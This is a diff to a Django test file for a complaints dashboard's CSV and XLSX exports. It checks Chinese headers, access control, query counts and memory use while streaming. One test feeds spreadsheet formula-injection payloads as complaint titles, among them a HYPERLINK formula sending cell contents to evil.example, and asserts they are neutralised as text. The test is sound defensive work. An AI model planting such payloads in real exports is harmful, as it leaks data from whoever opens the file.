@@ -1,7 +1,10 @@
 import csv
 import io
+import tracemalloc
+import zipfile
 from datetime import timedelta
 
+import openpyxl
 import pytest
 import time_machine
 from django.urls import reverse
@@ -9,6 +12,7 @@ from django.utils import timezone
 
 from committee_site.pagination import _encode
 from complaints.models import Category, Complaint, Status
+from complaints.views import dashboard as dashboard_views
 from complaints.views.dashboard import spreadsheet_safe
 from tests import factories
 from tests.complaints.conftest import drive, file_complaint
@@ -251,6 +255,132 @@ def test_csv_export_is_forbidden_to_owners_and_lists_only_the_compound(owner, co
     assert client_for(owner).get(EXPORT).status_code == 403
 
 
+# --- XLSX -----------------------------------------------------------------------------------
+
+EXPORT_XLSX = reverse("complaints:export_xlsx")
+
+
+def _xlsx(response):
+    """The workbook's only sheet as rows of text, the way the CSV reads (an empty cell is "")."""
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    assert len(workbook.worksheets) == 1
+    sheet = workbook.worksheets[0]
+    return sheet, [["" if cell.value is None else cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def test_xlsx_export_has_the_csv_s_headers_and_rows_in_chinese(owner, committee_member, property_staff):
+    with time_machine.travel("2026-03-01 09:00 +0800", tick=False):
+        file_complaint(owner, title="电梯门关不上")
+        drive(file_complaint(owner, title="电梯按钮失灵"), Status.IN_PROGRESS, committee=committee_member)
+        file_complaint(owner, title="楼道灯不亮", description="五楼的灯")
+    with time_machine.travel("2026-03-05 09:00 +0800", tick=False):
+        client = client_for(committee_member)
+        csv_rows = _csv(client.get(EXPORT, {"q": "电梯", "sort": "oldest"}))
+        response = client.get(EXPORT_XLSX, {"q": "电梯", "sort": "oldest"})
+    assert response["Content-Disposition"] == 'attachment; filename="complaints-20260305-0900.xlsx"'
+    sheet, rows = _xlsx(response)
+    assert sheet.title == "投诉"
+    assert sheet.freeze_panes == "A2"
+    assert rows == csv_rows
+    assert rows[0][:4] == ["编号", "提交时间", "状态", "已超时"]
+    assert [row[-1] for row in rows[1:]] == ["电梯门关不上", "电梯按钮失灵"]
+    assert rows[2][2] == "处理中"
+
+
+def test_xlsx_export_stores_formula_looking_titles_as_plain_text(owner, committee_member):
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    for title in (evil, "@SUM(A1)", "-1+2", "+cmd", "\tTAB", "正常\x07标题"):
+        file_complaint(owner, title=title, description="x")
+    client = client_for(committee_member)
+    response = client.get(EXPORT_XLSX, {"sort": "oldest"}, HTTP_ACCEPT_LANGUAGE="en")
+    body = b"".join(response.streaming_content)
+    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
+    titles = [row[-1] for row in sheet.iter_rows(min_row=2)]
+    assert [cell.value for cell in titles] == [f"'{evil}", "'@SUM(A1)", "'-1+2", "'+cmd", "'\tTAB", "正常标题"]
+    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} == {"s"}
+    # Nothing in the file is a formula, whatever a reader makes of the types.
+    with zipfile.ZipFile(io.BytesIO(body)) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+    # Should a value starting with "=" ever reach the sheet, it is typed as text all the same.
+    assert dashboard_views._xlsx_text(openpyxl.Workbook(write_only=True).create_sheet(), "=1+1").data_type == "s"
+    # The CSV neutralises the same titles the same way (the control character aside: a CSV may carry it).
+    csv_titles = [row[-1] for row in _csv(client.get(EXPORT, {"sort": "oldest"}, HTTP_ACCEPT_LANGUAGE="en"))[1:]]
+    assert csv_titles[:5] == [cell.value for cell in titles[:5]]
+
+
+def test_xlsx_export_is_refused_as_the_csv_is_and_lists_only_the_compound(
+    owner, property_staff, officer, committee_member, other_compound, other_committee_member
+):
+    other_owner = factories.owner_in(other_compound, username="elsewhere")
+    file_complaint(other_owner, title="别的小区")
+    file_complaint(owner, title="本小区")
+    for user in (owner, property_staff):
+        assert client_for(user).get(EXPORT).status_code == 403
+        assert client_for(user).get(EXPORT_XLSX).status_code == 403
+    for user, titles in ((committee_member, ["本小区"]), (officer, ["本小区"]), (other_committee_member, ["别的小区"])):
+        assert [row[-1] for row in _xlsx(client_for(user).get(EXPORT_XLSX))[1][1:]] == titles
+        assert [row[-1] for row in _csv(client_for(user).get(EXPORT))[1:]] == titles
+
+
+def test_xlsx_export_is_linked_beside_the_csv_with_the_list_s_filters(owner, committee_member):
+    file_complaint(owner)
+    page = _get(committee_member, q="电梯", status="open").content.decode()
+    assert '<a class="btn btn-sm btn-outline-success" href="/complaints/dashboard/export.xlsx?' in page
+    link = page.split('data-testid="export-xlsx"')[0].rsplit("href=", 1)[1]
+    assert "q=%E7%94%B5%E6%A2%AF" in link
+    assert "status=open" in link
+    assert "Download as Excel (XLSX)" in page
+    committee_member.language = "zh-hans"
+    committee_member.save(update_fields=["language"])
+    assert "导出 Excel（XLSX）" in client_for(committee_member).get(DASHBOARD).content.decode()
+
+
+@pytest.mark.parametrize("rows", [3, 600])
+def test_exports_cost_a_fixed_number_of_queries(compound, committee_member, django_assert_num_queries, rows):
+    bulk_complaints(compound, rows, title="电梯坏了")
+    client = client_for(committee_member)
+    client.get(DASHBOARD)  # the session is warm, as it is when the download is clicked
+    # session, user, access (3), the list (one query, read in chunks)
+    with django_assert_num_queries(EXPORT_QUERIES):
+        _sheet, sheet_rows = _xlsx(client.get(EXPORT_XLSX, {"q": "电梯"}))
+    assert len(sheet_rows) == rows + 1
+    with django_assert_num_queries(EXPORT_QUERIES):
+        assert len(_csv(client.get(EXPORT, {"q": "电梯"}))) == rows + 1
+
+
+EXPORT_QUERIES = 6
+
+
+def _download_peak(client, url):
+    """The most memory Python held while the download was made and read."""
+    tracemalloc.start()
+    try:
+        response = client.get(url)
+        size = sum(len(chunk) for chunk in response.streaming_content)
+        return tracemalloc.get_traced_memory()[1], size
+    finally:
+        tracemalloc.stop()
+
+
+def test_exports_hold_one_chunk_of_rows_in_memory_however_long_the_list(compound, committee_member, monkeypatch):
+    # Small chunks, so that a few hundred rows show what thousands would.
+    monkeypatch.setattr(dashboard_views, "EXPORT_CHUNK", 50)
+    client = client_for(committee_member)
+    client.get(DASHBOARD)
+    peaks = {}
+    for total in (300, 1200):
+        bulk_complaints(compound, total - Complaint.objects.count(), title="电梯坏了")
+        for url in (EXPORT_XLSX, EXPORT):
+            peaks[url, total] = _download_peak(client, url)
+    for url in (EXPORT_XLSX, EXPORT):
+        (short, short_size), (long, long_size) = peaks[url, 300], peaks[url, 1200]
+        assert long_size > 3 * short_size
+        # Four times the rows, about the same memory: a chunk of rows, never the whole list.
+        assert long < 1.3 * short, (url, short, long)
+
+
 # --- cost ------------------------------------------------------------------------------------
 
 
@@ -263,25 +393,26 @@ def test_dashboard_list_and_detail_cost_a_fixed_number_of_queries(
     bulk_complaints(compound, rows - rows // 2, status="closed", title="楼道灯", start=now - timedelta(days=20))
     complaint = file_complaint(owner)
     client = client_for(committee_member)
-    # session, user, access (3), badges (2), status counts, workload, the page, the filter form's
-    # categories and service areas
-    with django_assert_num_queries(12):
+    # session, user, access (3), badges (2), the time limits (due soon), status counts, workload, the page,
+    # the filter form's categories and service areas
+    with django_assert_num_queries(13):
         response = client.get(DASHBOARD)
     items = response.context["page"].items
     assert len(items) == min(rows + 1, 25)
-    with django_assert_num_queries(12):
+    with django_assert_num_queries(13):
         response = client.get(DASHBOARD, {"q": "电梯", "status": "open", "sort": "deadline", "due": "overdue"})
     assert len(response.context["page"].items) == min(rows // 2, 25)
     # A page further on, by the key of a row: what a "next" link carries.
     cursor = _encode([items[1].submitted_at, items[1].pk], "n")
-    with django_assert_num_queries(12):
+    with django_assert_num_queries(13):
         response = client.get(DASHBOARD, {"cursor": cursor, "channel": "web"})
     assert len(response.context["page"].items) == min(rows + 1 - 2, 25)
     with django_assert_num_queries(DETAIL_QUERIES):
         assert client.get(reverse("complaints:detail", args=[complaint.pk])).status_code == 200
 
 
-DETAIL_QUERIES = 14
+# The page of one complaint; its forms and its status badge share one read of the time limits.
+DETAIL_QUERIES = 15
 
 
 def test_the_home_page_and_the_menu_lead_the_committee_to_the_dashboard(committee_member, officer, owner):
